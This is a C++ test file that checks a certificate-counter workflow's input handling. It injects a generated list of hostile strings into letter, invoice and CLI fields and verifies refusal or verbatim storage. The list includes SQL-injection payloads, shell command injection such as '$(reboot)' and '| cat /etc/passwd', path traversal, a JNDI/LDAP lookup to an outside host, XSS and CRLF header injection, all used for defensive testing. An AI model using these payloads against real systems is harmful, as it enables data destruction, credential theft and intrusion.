// Hostile text in every field a person types or a paper carries (DESIGN §3, §5): SQL, format strings, NUL
// and control characters, invalid UTF-8, bidirectional overrides, 10 kB fields, emoji. Every value is either
// refused before anything happens — with a message that names the field, leaving only the audit entry — or
// stored byte for byte. The tables are still there afterwards and the audit chain verifies.
#include <catch2/catch.hpp>

#include <algorithm>
#include <functional>
#include <set>
#include <string>
#include <vector>

#include <QDate>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>

#include <pqxx/result>
#include <pqxx/transaction>

#include "backend/fees/fees.h"
#include "backend/workflow/workflow.h"
#include "db/transactionstore.h"
#include "tests/support/counterfixture.h"
#include "tests/support/newpapers.h"

using namespace countersign;
using test::CounterFixture;

namespace {

struct Hostile {
    std::string name; ///< how a failure report names it
    std::string text;
};

std::string repeat(const std::string& s, int n) {
    std::string out;
    for (int i = 0; i < n; ++i)
        out += s;
    return out;
}

/// 100+ hostile strings, made here rather than listed in a file so NUL bytes and invalid UTF-8 survive.
std::vector<Hostile> hostileStrings() {
    std::vector<Hostile> h = {
        // SQL and quoting.
        {"sql drop", "'; DROP TABLE countersign.transactions; --"},
        {"sql or", "' OR '1'='1"},
        {"sql or double", "\" OR \"1\"=\"1"},
        {"sql delete audit", "x'); DELETE FROM countersign.audit_log; --"},
        {"sql union", "' UNION SELECT password_hash FROM countersign.staff --"},
        {"parameter", "$1"},
        {"parameter cast", "$1::text"},
        {"dollar quote", "$$; DROP TABLE countersign.letters; $$"},
        {"backslash quote", "\\'"},
        {"backslash", "\\"},
        {"backslashes", "\\\\\\\\"},
        {"escape string", "E'\\x41'"},
        {"sql comment", "/* */ --"},
        {"semicolon", ";"},
        {"single quote", "'"},
        {"double quote", "\""},
        {"null word", "NULL"},
        {"subselect", "'||(SELECT current_user)||'"},
        // Format strings, shells, markup.
        {"format", "%s%n%x%p"},
        {"format many", repeat("%n", 50)},
        {"brace format", "{0}{1}"},
        {"jndi", "${jndi:ldap://example.cn/a}"},
        {"shell", "$(reboot)`id`"},
        {"pipe", "| cat /etc/passwd"},
        {"path", "../../../../etc/passwd"},
        {"windows path", "C:\\Windows\\system32\\"},
        {"html", "<script>alert(1)</script>"},
        {"cdata", "]]><!--"},
        {"percent encoded", "%00%27%22"},
        {"entity", "&#x27;&quot;"},
        {"formula", "=HYPERLINK(\"http://x\")"},
        {"formula plus", "+1+1"},
        {"at", "@SUM(A1)"},
        // JSON breakers.
        {"json close", "\"}"},
        {"json inject", "\",\"admin\":true,\"x\":\""},
        {"json array", "]}]}"},
        {"json escape", "\\u0000\\\""},
        // NUL bytes.
        {"nul", std::string("\0", 1)},
        {"nul inside", std::string("a\0b", 3)},
        {"nul then sql", std::string("ok\0'; DROP TABLE countersign.transactions; --", 45)},
        // Control characters and separators.
        {"ansi", "\x1b[31mred\x1b[0m"},
        {"crlf", "line\r\nSet-Cookie: x"},
        {"newline", "a\nb"},
        {"tab", "a\tb"},
        {"del", "a\x7f"},
        {"c1 nel", "a\xc2\x85"},
        {"c1 csi", "a\xc2\x9b"},
        {"u2028", "a\xe2\x80\xa8"},
        {"u2029", "a\xe2\x80\xa9"},
        // Invalid UTF-8.
        {"ff", "\xff"},
        {"fe ff", "\xfe\xff"},
        {"overlong slash", "\xc0\xaf"},
        {"overlong 3", "\xe0\x80\xaf"},
        {"overlong 4", "\xf0\x80\x80\xaf"},
        {"lone surrogate", "\xed\xa0\x80"},
        {"low surrogate", "\xed\xbf\xbf"},
        {"beyond 10ffff", "\xf4\x90\x80\x80"},
        {"lone continuation", "\x80"},
        {"truncated", "abc\xe4\xb8"},
        {"five bytes", "\xf8\x88\x80\x80\x80"},
        {"latin1", "caf\xe9"},
        // Length.
        {"10 kB ascii", std::string(10240, 'A')},
        {"10 kB quotes", std::string(10240, '\'')},
        {"201 han", repeat("中", 201)},
        {"200 han", repeat("中", 200)},
        {"65 han", repeat("中", 65)},
        {"64 han", repeat("中", 64)},
        {"1000 emoji", repeat("\xf0\x9f\x98\x80", 1000)},
        {"long combining", "e" + repeat("\xcc\x81", 300)},
        // Bidirectional text, invisible characters, emoji, other scripts.
        {"rtl override", "\xe2\x80\xae"
                         "gnp.exe"},
        {"ltr override", "\xe2\x80\xad"
                         "abc"},
        {"rtl isolate", "\xe2\x81\xa7"
                        "abc\xe2\x81\xa9"},
        {"rlm", "abc\xe2\x80\x8f"},
        {"zero width space", "a\xe2\x80\x8b"
                             "b"},
        {"zwj", "\xe2\x80\x8d"},
        {"bom", "\xef\xbb\xbf"
                "abc"},
        {"emoji", "\xf0\x9f\x98\x80"},
        {"emoji family", "\xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x91\xa7"},
        {"flag", "\xf0\x9f\x87\xa8\xf0\x9f\x87\xb3"},
        {"pile of poo", "\xf0\x9f\x92\xa9 Co., Ltd."},
        {"replacement char", "\xef\xbf\xbd"},
        {"max code point", "\xf4\x8f\xbf\xbf"},
        {"noncharacter", "\xef\xbf\xbe"},
        {"fullwidth", "\xef\xbc\xa6\xef\xbd\x95\xef\xbd\x8c\xef\xbd\x8c"},
        {"ideographic space", "\xe3\x80\x80\xe5\x85\xac\xe5\x8f\xb8"},
        {"arabic", "\xd8\xb4\xd8\xb1\xd9\x83\xd8\xa9"},
        {"chinese company", "天津测试科技有限公司（分公司）"},
        {"nbsp", "a\xc2\xa0"
                 "b"},
        {"mixed", "天津'; --\xf0\x9f\x98\x80%s\\"},
    };
    // Every C0 control character inside text, and a few C1 ones.
    for (int c = 1; c < 0x20; ++c)
        h.push_back({"c0 " + std::to_string(c), std::string("a") + static_cast<char>(c) + "b"});
    for (const char* c1 : {"\xc2\x80", "\xc2\x8d", "\xc2\x9f"})
        h.push_back({"c1 " + std::to_string(static_cast<unsigned char>(c1[1])), std::string("a") + c1 + "b"});
    return h;
}

/// What a refused or completed operation left: row counts of every table an operation writes, the audit
/// log's length and its last event. Reading it also proves the tables are still there.
struct Footprint {
    std::string rows;
    long long audit = 0;
    std::string lastEvent;
};

Footprint footprint(CounterFixture& f) {
    pqxx::read_transaction tx{*f.conn};
    const auto r = tx.exec_params1(
        "SELECT concat_ws(',', (SELECT count(*) FROM countersign.transactions), "
        "(SELECT count(*) FROM countersign.transaction_steps), (SELECT count(*) FROM countersign.letters), "
        "(SELECT count(*) FROM countersign.enterprises), (SELECT count(*) FROM countersign.agents), "
        "(SELECT count(*) FROM countersign.tokens), (SELECT count(*) FROM countersign.certificates), "
        "(SELECT count(*) FROM countersign.fee_lines), (SELECT count(*) FROM countersign.payments), "
        "(SELECT count(*) FROM countersign.invoice_requests), (SELECT count(*) FROM countersign.receipts), "
        "(SELECT count(*) FROM countersign.approvals), (SELECT count(*) FROM countersign.evidence), "
        "(SELECT count(*) FROM countersign.stock_movements)), "
        "(SELECT count(*) FROM countersign.audit_log WHERE counter_id = $1), "
        "(SELECT event FROM countersign.audit_log WHERE counter_id = $1 ORDER BY seq DESC LIMIT 1)",
        f.db.counterId());
    return {r[0].c_str(), r[1].as<long long>(), r[2].is_null() ? std::string() : r[2].c_str()};
}

/// A field under test: how the request carries it and the words a refusal must use to name it.
struct Field {
    std::string name;
    std::vector<std::string> words;
};

bool names(const workflow::Check& c, const Field& field) {
    const std::string text = c.id + " " + c.reason;
    return std::any_of(field.words.begin(), field.words.end(),
                       [&](const std::string& w) { return text.find(w) != std::string::npos; });
}

/// The failed checks of a refusal, each as its id and as "id: reason".
std::set<std::string> failedIds(const workflow::Refusal& r) {
    std::set<std::string> out;
    for (const auto& c : r.failed()) {
        out.insert(c.id);
        out.insert(c.id + ": " + c.reason);
    }
    return out;
}

/// Runs an operation that the baseline failures refuse anyway (so nothing runs past the checks) with one
/// hostile value in `field`. Checks that it was refused, with a message naming the field when the value
/// itself was refused, and that only the refusal's audit entry was written. Returns true when the value
/// itself passed every check (it must then be stored verbatim by a full run).
bool refusedOrAccepted(CounterFixture& f, const Hostile& h, const Field& field,
                       const std::set<std::string>& baseline, const std::function<void()>& run) {
    INFO("field " << field.name << ", value \"" << h.name << "\"");
    const Footprint before = footprint(f);
    bool accepted = false;
    bool refused = false;
    try {
        run();
        FAIL_CHECK("the operation was not refused");
    } catch (const workflow::Refusal& r) {
        refused = true;
        CHECK_FALSE(std::string(r.what()).empty());
        std::vector<workflow::Check> extra;
        for (const auto& c : r.failed())
            // A check the baseline failed too, for the same reason, is not this value's doing.
            if (baseline.count(c.id) == 0 || baseline.count(c.id + ": " + c.reason) == 0)
                extra.push_back(c);
        accepted = extra.empty();
        if (!accepted) {
            bool named = false;
            for (const auto& c : extra) {
                CHECK_FALSE(c.reason.empty());
                named = named || names(c, field);
            }
            INFO("failed: " << extra.front().id << ": " << extra.front().reason);
            CHECK(named);
        }
    } catch (const std::exception& e) {
        FAIL_CHECK("not a refusal but " << e.what());
    }
    const Footprint after = footprint(f);
    CHECK(after.rows == before.rows);
    if (refused) {
        CHECK(after.audit == before.audit + 1);
        CHECK(after.lastEvent == "operation.refused");
    }
    return accepted;
}

Date day(int fromToday) {
    const QDate d = QDate::currentDate().addDays(fromToday);
    return Date{d.year(), d.month(), d.day()};
}

papers::AuthorizationLetter authorizationLetter() {
    return CounterFixture::authorizationLetter(true, true);
}

papers::AssistanceLetter handEnteredLetter(const std::string& no) {
    papers::AssistanceLetter l;
    l.no = no;
    l.office = "11201010000";
    l.officeName = "国家税务总局天津市河西区税务局";
    l.uscc = CounterFixture::kUscc;
    l.org = CounterFixture::kOrg;
    l.agentName = CounterFixture::kAgentName;
    l.agentIdNo = CounterFixture::kAgentId;
    l.issued = day(-1);
    l.expires = day(30);
    l.biz = {"NEW"};
    return l;
}

fees::InvoiceInput invoice() {
    fees::InvoiceInput i;
    i.buyerKind = "enterprise";
    i.buyerName = CounterFixture::kOrg;
    i.buyerTaxpayerId = CounterFixture::kUscc;
    i.addressPhone = "天津市河西区友谊路1号 022-12345678";
    i.bankAccount = "中国银行天津分行 1234567890";
    i.deliveryEmail = "finance@example.cn";
    return i;
}

const std::string kNoKey = "NO-SUCH-KEY";

std::string letterOf(CounterFixture& f, const std::string& transaction, const std::string& column) {
    // Column names can't be parameters; they come from this file's fixed list.
    return f.scalar("SELECT l." + column +
                        " FROM countersign.letters l JOIN countersign.transactions t ON t.letter_id = l.id "
                        "WHERE t.number = $1",
                    transaction);
}

} // namespace

TEST_CASE("workflow injection: hostile text in an authorization letter is refused naming the field or stored "
          "verbatim",
          "[workflow][injection]") {
    CounterFixture f;
    const std::string serial = f.issueNew("INJ-A0");
    auto p = f.open();
    const auto hostile = hostileStrings();
    REQUIRE(hostile.size() >= 100);

    const auto unlock = [&](const papers::AuthorizationLetter& letter, const std::string& key) {
        workflow::UnlockRequest r;
        r.operatorId = f.operatorId;
        r.operatorSession = f.operatorSession();
        r.letter = letter;
        r.idCardNo = r.letter.agentIdNo;
        r.keySerial = key;
        r.newPin = Secret("975310");
        return p.flow->runUnlock(std::move(r));
    };
    // The baseline: good papers for a key that is not in the writer.
    std::set<std::string> baseline;
    try {
        unlock(authorizationLetter(), kNoKey);
        FAIL("an unlock of a key that is not in the writer went through");
    } catch (const workflow::Refusal& r) {
        baseline = failedIds(r);
    }
    REQUIRE(baseline.count("key") == 1);

    using Setter = std::function<void(papers::AuthorizationLetter&, const std::string&)>;
    const std::vector<std::pair<Field, Setter>> fields = {
        {{"company_name", {"company name", "the company and the agent"}},
         [](auto& l, const auto& v) { l.companyName = v; }},
        {{"company_id", {"company_id", "company ID"}}, [](auto& l, const auto& v) { l.companyId = v; }},
        {{"agent_name", {"agent name", "the company and the agent"}},
         [](auto& l, const auto& v) { l.agentName = v; }},
        {{"agent_id", {"agent_id", "agent ID", "agent's ID"}},
         [](auto& l, const auto& v) { l.agentIdNo = v; }},
        {{"agent_mobile", {"agent_mobile", "mobile"}}, [](auto& l, const auto& v) { l.agentMobile = v; }},
    };
    // Values that passed every check of their field, by field index.
    std::vector<std::vector<const Hostile*>> accepted(fields.size());
    for (std::size_t i = 0; i < fields.size(); ++i)
        for (const auto& h : hostile) {
            auto letter = authorizationLetter();
            fields[i].second(letter, h.text);
            if (refusedOrAccepted(f, h, fields[i].first, baseline, [&] { unlock(letter, kNoKey); }))
                accepted[i].push_back(&h);
        }
    // The same letter on a replacement (lost key; the new key named is not in the writer).
    const auto replace = [&](const papers::AuthorizationLetter& letter) {
        workflow::ReplaceRequest r;
        r.operatorId = f.operatorId;
        r.operatorSession = f.operatorSession();
        r.letter = letter;
        r.idCardNo = r.letter.agentIdNo;
        r.newKeySerial = kNoKey;
        r.newPin = Secret("246813");
        r.payments = {fees::PaymentInput{fees::PaymentMethod::Cash, 2600, {}}};
        p.flow->runReplace(std::move(r));
    };
    std::set<std::string> replaceBaseline;
    try {
        replace(authorizationLetter());
        FAIL("a replacement onto a key that is not in the writer went through");
    } catch (const workflow::Refusal& r) {
        replaceBaseline = failedIds(r);
    }
    REQUIRE(replaceBaseline.count("blank_key") == 1);
    REQUIRE(replaceBaseline.size() == 2);
    for (std::size_t i = 0; i < fields.size(); ++i)
        for (const auto& h : hostile) {
            auto letter = authorizationLetter();
            fields[i].second(letter, h.text);
            const bool took =
                refusedOrAccepted(f, h, fields[i].first, replaceBaseline, [&] { replace(letter); });
            const bool tookOnUnlock =
                std::find(accepted[i].begin(), accepted[i].end(), &h) != accepted[i].end();
            INFO("field " << fields[i].first.name << ", value \"" << h.name << "\"");
            CHECK(took == tookOnUnlock);
        }

    // Identifiers and the mobile number are checked against their formats: nothing hostile gets through.
    CHECK(accepted[1].empty());
    CHECK(accepted[3].empty());
    CHECK(accepted[4].empty());

    // What passed is stored byte for byte by a real unlock of a locked key.
    for (std::size_t i : {std::size_t(0), std::size_t(2)})
        for (const Hostile* h : accepted[i]) {
            INFO("field " << fields[i].first.name << ", value \"" << h->name << "\"");
            CounterFixture::lockUserPin(*p.keys, serial);
            auto letter = authorizationLetter();
            fields[i].second(letter, h->text);
            const auto o = unlock(letter, serial);
            REQUIRE(o.state == "completed");
            CHECK(letterOf(f, o.transactionNumber, i == 0 ? "org_name" : "agent_name") == h->text);
        }
    CHECK_FALSE(f.auditBrokenAt());
}

TEST_CASE("workflow injection: hostile text in a hand-entered assistance letter is refused naming the field "
          "or stored "
          "verbatim",
          "[workflow][injection]") {
    CounterFixture f;
    auto p = f.open();
    const auto hostile = hostileStrings();
    const auto runNew = [&](const papers::AssistanceLetter& letter, bool approved) {
        workflow::NewRequest r;
        r.operatorId = f.operatorId;
        r.operatorSession = f.operatorSession();
        r.handEntered = letter;
        r.idCardNo = r.handEntered->agentIdNo;
        if (approved)
            r.handEntryApprovedBy = f.supervisorApproval();
        r.newPin = Secret("135790");
        r.algorithm = token::KeyAlgorithm::EcP256;
        return p.flow->runNew(std::move(r));
    };
    // The baseline: a good letter without the supervisor's approval of the hand entry.
    std::set<std::string> baseline;
    try {
        runNew(handEnteredLetter("INJ-BASE"), false);
        FAIL("a hand-entered letter went through without a supervisor");
    } catch (const workflow::Refusal& r) {
        baseline = failedIds(r);
    }
    REQUIRE(baseline.count("hand_entry_approved") == 1);
    REQUIRE(baseline.size() == 2);

    using Setter = std::function<void(papers::AssistanceLetter&, const std::string&)>;
    const std::vector<std::pair<Field, Setter>> fields = {
        {{"no", {"letter number"}}, [](auto& l, const auto& v) { l.no = v; }},
        {{"office", {"office code"}}, [](auto& l, const auto& v) { l.office = v; }},
        {{"officeName", {"office name"}}, [](auto& l, const auto& v) { l.officeName = v; }},
        {{"org", {"company name"}}, [](auto& l, const auto& v) { l.org = v; }},
        {{"agent.name", {"agent name"}}, [](auto& l, const auto& v) { l.agentName = v; }},
        {{"uscc", {"uscc", "USCC"}}, [](auto& l, const auto& v) { l.uscc = v; }},
        {{"agent.idNo", {"agent_id", "agent's ID"}}, [](auto& l, const auto& v) { l.agentIdNo = v; }},
    };
    // For each value, the text fields that took it.
    std::vector<std::vector<std::size_t>> tookIt(hostile.size());
    for (std::size_t i = 0; i < fields.size(); ++i)
        for (std::size_t k = 0; k < hostile.size(); ++k) {
            auto letter = handEnteredLetter("INJ-R-" + std::to_string(k));
            fields[i].second(letter, hostile[k].text);
            if (refusedOrAccepted(f, hostile[k], fields[i].first, baseline, [&] { runNew(letter, false); }))
                tookIt[k].push_back(i);
        }
    for (std::size_t k = 0; k < hostile.size(); ++k) {
        INFO("value \"" << hostile[k].name << "\"");
        for (const auto i : tookIt[k])
            CHECK(i < 5); // never the USCC or the ID number
    }

    // What passed is stored byte for byte: one NEW per value, carrying it in every field that took it.
    const char* const columns[] = {"letter_no", "office_code", "office_name", "org_name", "agent_name"};
    for (std::size_t k = 0; k < hostile.size(); ++k) {
        if (tookIt[k].empty())
            continue;
        INFO("value \"" << hostile[k].name << "\"");
        auto letter = handEnteredLetter("INJ-S-" + std::to_string(k));
        for (const auto i : tookIt[k])
            fields[i].second(letter, hostile[k].text);
        workflow::Outcome o;
        try {
            o = runNew(letter, true);
        } catch (const std::exception& e) {
            FAIL_CHECK("the new certificate stopped: " << e.what());
            continue;
        }
        CHECK(o.state == "completed");
        for (const auto i : tookIt[k])
            CHECK(letterOf(f, o.transactionNumber, columns[i]) == hostile[k].text);
    }
    CHECK(std::stoll(f.scalar("SELECT count(*) FROM countersign.transactions")) >= 0);
    CHECK_FALSE(f.auditBrokenAt());
}

TEST_CASE("workflow injection: hostile invoice data is refused naming the field or stored verbatim",
          "[workflow][injection]") {
    CounterFixture f;
    auto p = f.open();
    const auto hostile = hostileStrings();
    const auto unlockWith = [&](const fees::InvoiceInput& inv) {
        workflow::UnlockRequest r;
        r.operatorId = f.operatorId;
        r.operatorSession = f.operatorSession();
        r.letter = authorizationLetter();
        r.idCardNo = r.letter.agentIdNo;
        r.keySerial = kNoKey;
        r.newPin = Secret("975310");
        r.invoice = inv;
        p.flow->runUnlock(std::move(r));
    };
    std::set<std::string> baseline;
    try {
        unlockWith(invoice());
        FAIL("an unlock of a key that is not in the writer went through");
    } catch (const workflow::Refusal& r) {
        baseline = failedIds(r);
    }
    // An unlock costs nothing, so even a good invoice request is refused for that reason alone; a hostile
    // value must be refused for its own.
    REQUIRE(baseline.count("invoice: nothing is due, so there is nothing to invoice") == 1);

    using Setter = std::function<void(fees::InvoiceInput&, const std::string&)>;
    const std::vector<std::pair<Field, Setter>> fields = {
        {{"buyer_name", {"buyer name"}}, [](auto& i, const auto& v) { i.buyerName = v; }},
        {{"buyer_taxpayer_id", {"taxpayer ID"}}, [](auto& i, const auto& v) { i.buyerTaxpayerId = v; }},
        {{"address_phone", {"address and phone"}}, [](auto& i, const auto& v) { i.addressPhone = v; }},
        {{"bank_account", {"bank and account"}}, [](auto& i, const auto& v) { i.bankAccount = v; }},
        {{"delivery_email", {"e-mail"}}, [](auto& i, const auto& v) { i.deliveryEmail = v; }},
        {{"delivery_mobile", {"mobile"}}, [](auto& i, const auto& v) { i.deliveryMobile = v; }},
    };
    std::vector<std::vector<const Hostile*>> accepted(fields.size());
    for (std::size_t i = 0; i < fields.size(); ++i)
        for (const auto& h : hostile) {
            auto inv = invoice();
            fields[i].second(inv, h.text);
            if (refusedOrAccepted(f, h, fields[i].first, baseline, [&] { unlockWith(inv); }))
                accepted[i].push_back(&h);
        }
    CHECK(accepted[1].empty());
    CHECK(accepted[5].empty());

    // What passed is stored byte for byte with the fee of a paid transaction (a replacement's media fee).
    const char* const columns[] = {"buyer_name",   "buyer_taxpayer_id", "address_phone",
                                   "bank_account", "delivery_email",    "delivery_mobile"};
    int made = 0;
    test::registerNewPapersSigner(*f.db.connect());
    for (std::size_t i = 0; i < fields.size(); ++i)
        for (const Hostile* h : accepted[i]) {
            INFO("field " << fields[i].first.name << ", value \"" << h->name << "\"");
            auto inv = invoice();
            fields[i].second(inv, h->text);
            const auth::SessionToken session = f.operatorSession();
            pqxx::work tx{*f.conn};
            db::TransactionStore store{tx};
            const long long id = store.open(*session, "NEW", "{}").id;
            store.recordPapers(*session, id, test::newPapers("INJ-" + std::to_string(made)), "{}");
            ++made;
            const auto quote = fees::quote(tx, f.db.centreId(), "tianjin-2018", "REPLACE", {}, day(0));
            REQUIRE(quote.totalFen() > 0);
            fees::recordFee(tx, *session, id, quote,
                            {fees::PaymentInput{fees::PaymentMethod::Cash, quote.totalFen(), {}}}, inv);
            const auto stored =
                tx.exec_params1(std::string("SELECT ") + columns[i] +
                                    " FROM countersign.invoice_requests WHERE transaction_id = $1",
                                id);
            CHECK(stored[0].c_str() == h->text);
            tx.commit();
        }
    CHECK(std::stoll(f.scalar("SELECT count(*) FROM countersign.invoice_requests")) == made);
    CHECK_FALSE(f.auditBrokenAt());
}

TEST_CASE(
    "workflow injection: hostile text through countersignctl is refused naming the field or stored verbatim",
    "[workflow][injection][ctl]") {
    CounterFixture f;
    // What JSON can carry (valid UTF-8; a NUL as \u0000): the command line's letter and invoice files.
    const std::set<std::string> picked = {
        "sql drop",   "sql or",       "parameter",   "backslash quote", "format",
        "ansi",       "crlf",         "u2028",       "rtl override",    "json close",
        "nul inside", "emoji family", "10 kB ascii", "zero width space"};
    const auto qs = [](const std::string& s) {
        return QString::fromUtf8(s.data(), static_cast<int>(s.size()));
    };
    const auto file = [&](const std::string& name, const QJsonObject& o) {
        return test::writeScratchFile(f.db.name() + "-" + name + ".json",
                                      QJsonDocument(o).toJson().toStdString());
    };
    const std::string pw = std::string(CounterFixture::kOperatorPassword) + "\n";
    int n = 0;
    for (const auto& h : hostileStrings()) {
        if (picked.count(h.name) == 0)
            continue;
        ++n;
        INFO("value \"" << h.name << "\"");
        const auto letter = authorizationLetter();
        const QJsonObject goodLetter{{QStringLiteral("company_name"), qs(letter.companyName)},
                                     {QStringLiteral("company_id"), qs(letter.companyId)},
                                     {QStringLiteral("agent_name"), qs(letter.agentName)},
                                     {QStringLiteral("agent_id"), qs(letter.agentIdNo)},
                                     {QStringLiteral("agent_mobile"), qs(letter.agentMobile)},
                                     {QStringLiteral("business"), QJsonArray{QStringLiteral("UNLOCK")}},
                                     {QStringLiteral("valid_from"), qs(letter.validFrom.iso())},
                                     {QStringLiteral("valid_to"), qs(letter.validTo.iso())},
                                     {QStringLiteral("date"), qs(letter.letterDate.iso())},
                                     {QStringLiteral("seal_confirmed"), true}};

        // The authorization letter's company name, on an unlock of a key that is not in the writer.
        {
            QJsonObject o = goodLetter;
            o[QStringLiteral("company_name")] = qs(h.text);
            const Footprint before = footprint(f);
            const auto r = f.ctl(
                CounterFixture::asOperator({"unlock", "--letter-json", file("auth-" + std::to_string(n), o),
                                            "--key", kNoKey, "--new-pin-fd", "0"}),
                pw + "975310\n");
            INFO(r.err);
            CHECK(r.exitCode == 1);
            const bool refusedText = !workflow::textProblem(h.text, 200).empty();
            CHECK((r.err.find("company name") != std::string::npos) == refusedText);
            CHECK(footprint(f).rows == before.rows);
        }
        // The invoice's buyer name and address, on the same refused unlock.
        {
            auto inv = invoice();
            inv.buyerName = h.text;
            inv.addressPhone = h.text;
            const QJsonObject o{{QStringLiteral("buyer_kind"), qs(inv.buyerKind)},
                                {QStringLiteral("buyer_name"), qs(inv.buyerName)},
                                {QStringLiteral("buyer_taxpayer_id"), qs(inv.buyerTaxpayerId)},
                                {QStringLiteral("address_phone"), qs(inv.addressPhone)},
                                {QStringLiteral("bank_account"), qs(inv.bankAccount)},
                                {QStringLiteral("delivery_email"), qs(inv.deliveryEmail)}};
            const Footprint before = footprint(f);
            const auto r =
                f.ctl(CounterFixture::asOperator({"unlock", "--letter-json", file("auth-good", goodLetter),
                                                  "--invoice-json", file("invoice-" + std::to_string(n), o),
                                                  "--key", kNoKey, "--new-pin-fd", "0"}),
                      pw + "975310\n");
            INFO(r.err);
            CHECK(r.exitCode == 1);
            const bool refusedInvoice = !fees::checkInvoice(inv, day(0)).empty();
            CHECK((r.err.find("buyer name") != std::string::npos) == refusedInvoice);
            CHECK(footprint(f).rows == before.rows);
        }
        // A hand-entered assistance letter's company name: refused, or a certificate issued and the name
        // stored as typed.
        {
            const QJsonObject o{{QStringLiteral("no"), qs("CLI-" + std::to_string(n))},
                                {QStringLiteral("office"), QStringLiteral("11201010000")},
                                {QStringLiteral("officeName"), QStringLiteral("天津市河西区税务局")},
                                {QStringLiteral("uscc"), qs(CounterFixture::kUscc)},
                                {QStringLiteral("org"), qs(h.text)},
                                {QStringLiteral("agent"),
                                 QJsonObject{{QStringLiteral("name"), qs(CounterFixture::kAgentName)},
                                             {QStringLiteral("idNo"), qs(CounterFixture::kAgentId)}}},
                                {QStringLiteral("issued"), qs(day(-1).iso())},
                                {QStringLiteral("expires"), qs(day(30).iso())},
                                {QStringLiteral("biz"), QJsonArray{QStringLiteral("NEW")}}};
            const auto r = f.ctl(CounterFixture::asOperator({"--json", "new", "--hand-entered",
                                                             file("hand-" + std::to_string(n), o), "--alg",
                                                             "ec-p256", "--new-pin-fd", "0", "--supervisor",
                                                             "sup", "--supervisor-password-fd", "0"}),
                                 pw + CounterFixture::kSupervisorPassword + "\n135790\n");
            INFO(r.out << r.err);
            if (!workflow::textProblem(h.text, 200).empty()) {
                CHECK(r.exitCode == 1);
                CHECK(r.err.find("company name") != std::string::npos);
            } else {
                REQUIRE(r.exitCode == 0);
                const auto number = QJsonDocument::fromJson(QByteArray::fromStdString(r.out))
                                        .object()[QStringLiteral("transaction")]
                                        .toString()
                                        .toStdString();
                CHECK(letterOf(f, number, "org_name") == h.text);
            }
        }
    }
    CHECK(n == static_cast<int>(picked.size()));
    CHECK(std::stoll(f.scalar("SELECT count(*) FROM countersign.transactions")) >= 0);
    CHECK_FALSE(f.auditBrokenAt());
    const auto verified = f.ctl({"audit", "verify"});
    CHECK(verified.exitCode == 0);
}
